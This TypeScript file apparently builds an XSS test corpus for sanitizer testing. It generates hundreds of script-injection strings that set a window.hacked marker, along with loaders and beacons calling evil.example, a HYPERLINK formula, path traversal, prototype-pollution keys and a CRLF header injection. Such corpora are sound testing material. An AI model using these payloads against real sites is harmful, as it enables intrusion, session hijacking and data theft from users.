/** What runs it: any of them leaves a mark on the window. */
const RUN = 'window.hacked=1'
const HANDLERS = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onpointerenter']
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'iframe src=x',
  'object data=x',
  'marquee',
  'math',
]
/** Ways out of the place a text may stand in: an attribute, an element, a comment, a script, a title. */
const EXITS = [
  '',
  '">',
  "'>",
  '-->',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</svg>',
  '</bdi></td></table>',
]

const elements = TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}=${RUN}>`))
const exits = EXITS.flatMap((exit) => [
  `${exit}<script>${RUN}</script>`,
  `${exit}<img src=x onerror=${RUN}>`,
  `${exit}<svg/onload=${RUN}>`,
])
const attributes = HANDLERS.flatMap((handler) => [
  `" ${handler}="${RUN}`,
  `' ${handler}='${RUN}`,
  `x ${handler}=${RUN} autofocus tabindex=0`,
])
const addresses = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=`,
  `vbscript:${RUN}`,
  `//evil.example/x.js`,
  `https://evil.example/"><script>${RUN}</script>`,
]
const encodings = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `＜script＞${RUN}＜/script＞`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<scr\u200bipt>${RUN}</scr\u200bipt>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `<<script>${RUN};//<</script>`,
  `<sc<script>ript>${RUN}</sc</script>ript>`,
  `\u202e<script>${RUN}</script>`,
  `\ud800<script>${RUN}</script>`,
]
const templates = [
  '{{constructor.constructor("window.hacked=1")()}}',
  '${window.hacked=1}',
  '<%= window.hacked=1 %>',
  '#{window.hacked=1}',
  '`${window.hacked=1}`',
  '[[${window.hacked=1}]]',
]
const loaders = [
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";*{background:url(//evil.example/p)}</style>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<base href=//evil.example/>',
  '<form action=//evil.example/><button>ok',
  '<iframe srcdoc="<script>parent.hacked=1</script>">',
  '<embed src=//evil.example/x.swf>',
  '<script src=//evil.example/x.js></script>',
  '<template shadowrootmode=open><script>window.hacked=1</script></template>',
  '<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>window.hacked=1</script></svg>#x">',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>',
  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
  '<a href=javascript:window.hacked=1>x</a>',
  '<img src=//evil.example/beacon.png>',
  '<img srcset=//evil.example/b.png>',
  '<audio src onloadstart=window.hacked=1>',
  '<select><option><style></option></select><script>window.hacked=1</script>',
  '<xmp><p title="</xmp><svg/onload=window.hacked=1>">',
  '<plaintext>',
  '<!--',
  '<![CDATA[<script>window.hacked=1</script>]]>',
  '=HYPERLINK("https://evil.example","x")',
]
const bare = TAGS.map((tag) => `<${tag.toUpperCase()} OnError="${RUN}" style="background:url(//evil.example/s)">`)
const named = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', '../../etc/passwd', '\r\nSet-Cookie: x=1']
const nested = EXITS.flatMap((exit) => [
  `${exit}<a href="javascript:${RUN}" autofocus onfocus="${RUN}">x</a>`,
  `${exit}<button formaction="javascript:${RUN}" autofocus>x</button>`,
  `${exit}<iframe src="javascript:${RUN}"></iframe>`,
])

/** Script in every shape a page has been known to fall for. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...elements,
    ...exits,
    ...attributes,
    ...addresses,
    ...encodings,
    ...templates,
    ...loaders,
    ...bare,
    ...named,
    ...nested,
  ]),
]
